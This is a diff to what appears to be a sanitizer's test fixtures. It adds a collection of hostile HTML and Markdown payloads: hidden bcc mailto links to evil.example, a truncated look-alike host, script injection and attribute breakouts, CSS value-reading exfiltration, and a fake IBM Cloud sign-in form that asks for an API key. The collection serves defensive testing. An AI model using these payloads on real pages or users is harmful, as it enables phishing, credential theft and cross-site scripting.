@@ -89,6 +89,15 @@ _LINKS = {
     "look-alike host": "[ibm.com](http://іbm.com) <http://аррӏе.com>",
     "encoded host": "[a](http://%65vil.example) [b](http://evil%2eexample) [c](http://[::1]/) [d](http://0x7f.1)",
     "markup in the link's text": "[<img src={leak}>](http://example.org) [![x]({leak})]({leak})",
+    "receivers that nobody sees": "[IBM](mailto:help@ibm.com?bcc=x@evil.example) [a](mailto:a@ibm.com?subject=x%0abcc:e@evil.example) [b](mailto:e%40evil.example%2Ca@ibm.com)",
+    "host whose end is cut": "[log in](https://cloud.ibm.com."
+    + "a" * 60
+    + "."
+    + "b" * 60
+    + "."
+    + "c" * 60
+    + ".evil.example/)",
+    "title that names another host": "[log in](http://evil.example 'https://cloud.ibm.com/login')",
     "link with a password field": "[x](http://example.org '<input type=password>')",
     "ping and download": "<a href={leak} ping={leak} download target=_top rel=opener>x</a>",
     "address of ten thousand characters": "[a]: http://example.org/"
@@ -191,6 +200,29 @@ _STRUCTURE = {
     "unclosed fence": "```html\n<script>fetch('{leak}')</script>",
     "unclosed everything": "<div><table><tr><td><a href='{leak}'><b><i>`$**[",
     "link definitions": "[a]: {leak} 'x'\n[b]: javascript:alert(1)\n\n[a] [b] ![a] ![b]",
+}
+
+#: Pages for ``-f html``, each a way to do something from a sandboxed frame or out of it.
+PAGES: dict[str, str] = {
+    "script": "<script>parent.pwned='page'; fetch('{leak}')</script><p onclick=alert(1)>x",
+    "out of the attribute": '"></iframe><script>pwned=\'srcdoc\'</script><img src={leak} onerror="pwned=1">',
+    "out of the attribute by entities": "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;pwned=1&lt;/script&gt;",
+    "policy of its own": '<meta http-equiv=Content-Security-Policy content="default-src *"><img src={leak}>',
+    "refresh": "<meta http-equiv=refresh content='0;url={leak}'><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "base": "<base href='{leak}/' target=_top><img src=x><a href=x>x</a>",
+    "link elements": "<link rel=stylesheet href={leak}><link rel=preconnect href={leak}><link rel=dns-prefetch href={leak}><link rel=prerender href={leak}>",
+    "links to the top": "<a href={leak} target=_top>x</a><a href='javascript:top.pwned=1' target=_parent>y</a><area href={leak}>",
+    "form": "<form action={leak} target=_top><h1>IBM Cloud</h1><input type=password placeholder='API key'><input value=''><textarea></textarea><input type=file><button autofocus formaction={leak}>Sign in</button></form>",
+    "frames": "<iframe src={leak}></iframe><iframe srcdoc='<img src={leak}>'></iframe><object data={leak}></object><embed src={leak}><portal src={leak}></portal>",
+    "pictures": "<img src={leak}><img srcset='{leak} 2x'><picture><source srcset={leak}><img></picture><input type=image src={leak}><video poster={leak} src={leak}></video>",
+    "styles": "<style>@import '{leak}'; @font-face{font-family:f;src:url({leak})} body{font-family:f;background:url({leak}),image-set('{leak}' 1x);cursor:url({leak}),auto;border-image:url({leak}) 1} p::before{content:url({leak})} li{list-style:url({leak})}</style><p>x<ul><li>y</ul>",
+    "style attributes": "<p style=\"background:url('{leak}');filter:url({leak}#f);mask:url({leak}#m);clip-path:url({leak}#c);shape-outside:url({leak})\">x</p>",
+    "styles that read a field": "<style>input[value^=a]{background:url({leak})} input:focus{background:url({leak})} @media print{p{background:url({leak})}}</style><input value=abc>",
+    "svg": "<svg><image href={leak} /><use href='{leak}#x'/><rect fill='url({leak}#p)' filter='url({leak}#f)' width=9 height=9 /><a href={leak}><text y=9>x</text></a><animate attributeName=href to=javascript:alert(1) /><style>@import url({leak});</style></svg>",
+    "svg as data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{leak}'/><script>top.pwned=1</script></svg>\">",
+    "style that ends twice": "<svg><style>&lt;/style&gt;&lt;img src={leak}&gt;</style></svg><style><\u200b/style><img src={leak}></style><select><style></select><link rel=stylesheet href={leak}></style>",
+    "over everything": "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:red;width:99999px;height:99999px'>Sign in</div><dialog open>x</dialog><div popover style='display:block'>y</div>",
+    "full screen and permissions": "<iframe allow='fullscreen *;camera *' allowfullscreen src={leak}></iframe><video autoplay controls src={leak}></video><meta name=viewport content='width=99999'>",
 }
 
 PAYLOADS: dict[str, str] = (
